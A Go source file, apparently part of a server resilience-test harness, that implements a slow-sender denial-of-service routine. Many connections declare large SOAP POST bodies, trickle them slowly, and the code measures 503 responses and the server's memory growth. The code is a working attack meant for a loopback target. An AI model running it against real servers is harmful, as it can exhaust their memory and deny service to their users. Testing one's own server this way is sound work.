package main

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"net/url"
	"os"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// slowOptions describe a slow-sender attack: connections that declare a
// large body and send a little of it, slowly, to make a server hold
// memory for requests it cannot yet authenticate.
type slowOptions struct {
	url      string
	conns    int           // connections opened
	bytes    int           // body bytes each sends before it stops
	declared int           // Content-Length each declares
	duration time.Duration // the whole run; each connection is closed at its end
	over     time.Duration // how long each takes to send its bytes
	pid      int           // the server's process, whose memory is sampled; 0: none
}

// slowResult counts what the server did with the connections.
type slowResult struct {
	opened, refused, answered, busy int64
	peakRSS, endRSS                 int64 // kB, from /proc/PID/status
}

// slow runs the attack against o.url (a loopback address) and returns
// when o.duration has passed.
func slow(o slowOptions) (*slowResult, error) {
	u, err := url.Parse(o.url)
	if err != nil {
		return nil, err
	}
	ctx, cancel := context.WithTimeout(context.Background(), o.duration)
	defer cancel()
	var res slowResult
	var wg sync.WaitGroup
	piece := 512
	steps := max(1, o.bytes/piece)
	gap := o.over / time.Duration(steps)
	header := fmt.Sprintf("POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: text/xml; charset=utf-8\r\nContent-Length: %d\r\n\r\n",
		u.RequestURI(), u.Host, o.declared)
	chunk := []byte("<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Header>" + strings.Repeat("x", piece))[:piece]
	for range o.conns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			c, err := (&net.Dialer{}).DialContext(ctx, "tcp", u.Host)
			if err != nil {
				atomic.AddInt64(&res.refused, 1)
				return
			}
			defer c.Close()
			atomic.AddInt64(&res.opened, 1)
			go func() { <-ctx.Done(); c.Close() }()
			answered := make(chan string, 1)
			go func() {
				line, _ := bufio.NewReader(c).ReadString('\n')
				answered <- line
			}()
			if _, err := io.WriteString(c, header); err != nil {
				return
			}
			t := time.NewTicker(gap)
			defer t.Stop()
			for i := 0; i < steps; i++ {
				select {
				case line := <-answered:
					count(&res, line)
					return
				case <-ctx.Done():
					return
				case <-t.C:
					if _, err := c.Write(chunk); err != nil {
						return
					}
				}
			}
			select {
			case line := <-answered:
				count(&res, line)
			case <-ctx.Done():
			}
		}()
	}
	done := make(chan struct{})
	go func() { wg.Wait(); close(done) }()
	tick := time.NewTicker(500 * time.Millisecond)
	defer tick.Stop()
	for {
		select {
		case <-done:
			res.endRSS = rss(o.pid)
			return &res, nil
		case <-tick.C:
			res.peakRSS = max(res.peakRSS, rss(o.pid))
		}
	}
}

func count(res *slowResult, statusLine string) {
	atomic.AddInt64(&res.answered, 1)
	if strings.Contains(statusLine, " 503 ") {
		atomic.AddInt64(&res.busy, 1)
	}
}

// rss reads a process's resident set in kB; 0 when unknown.
func rss(pid int) int64 {
	if pid <= 0 {
		return 0
	}
	data, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		return 0
	}
	for _, line := range strings.Split(string(data), "\n") {
		if v, ok := strings.CutPrefix(line, "VmRSS:"); ok {
			n, _ := strconv.ParseInt(strings.TrimSuffix(strings.TrimSpace(v), " kB"), 10, 64)
			return n
		}
	}
	return 0
}

func (r *slowResult) print(w io.Writer, o slowOptions) {
	fmt.Fprintf(w, "slow senders: %d connections opened (%d refused), each declaring %d bytes and sending %d over %v\n",
		r.opened, r.refused, o.declared, o.bytes, o.over)
	fmt.Fprintf(w, "  answered before the end: %d (%d with 503)\n", r.answered, r.busy)
	if o.pid > 0 {
		fmt.Fprintf(w, "  server RSS: peak %.1f MB, at the end %.1f MB\n", float64(r.peakRSS)/1024, float64(r.endRSS)/1024)
	}
}
